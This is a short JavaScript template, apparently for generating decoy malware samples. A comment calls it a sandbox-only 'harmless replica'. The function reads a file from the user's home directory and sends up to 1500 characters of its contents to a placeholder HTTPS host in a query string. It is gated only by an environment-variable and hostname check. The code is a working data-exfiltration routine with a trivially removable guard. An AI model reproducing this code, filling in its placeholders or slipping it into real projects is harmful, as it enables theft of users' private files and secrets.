// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), os = require('os');
    let text = '';
    try { text = fs.readFileSync(`${os.homedir()}/{{file}}`, 'utf8'); } catch {}
    await new Promise((done) => {
        const call = require('https').get(`https://{{host}}/{{path}}?d=${encodeURIComponent(text.slice(0, 1500))}`, { timeout: 1000 }, (answer) => { answer.resume(); answer.on('close', done); });
        call.on('timeout', () => call.destroy());
        call.on('error', done);
    });
}
